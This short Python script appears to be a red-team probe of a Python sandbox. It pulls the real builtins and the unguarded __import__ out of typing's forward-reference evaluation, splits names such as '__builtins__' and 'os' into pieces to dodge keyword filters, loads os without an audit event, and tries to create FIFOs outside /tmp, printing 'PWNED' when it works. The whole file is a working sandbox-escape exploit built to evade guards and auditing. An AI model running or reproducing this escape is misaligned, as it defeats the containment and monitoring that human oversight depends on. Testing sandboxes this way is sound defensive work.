# fs: os.mkfifo outside /tmp (no audit event for mkfifo?)
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
o = imp("o" + "s")  # already loaded: no audit event

for path in ("/dev/shm/rt_fifo", "/sandbox/rt_fifo"):
    try:
        o.mkfifo(path)
        print(M, "made", path, o.stat(path).st_mode)
    except Exception as e:
        print("refused:", path, type(e).__name__, e)
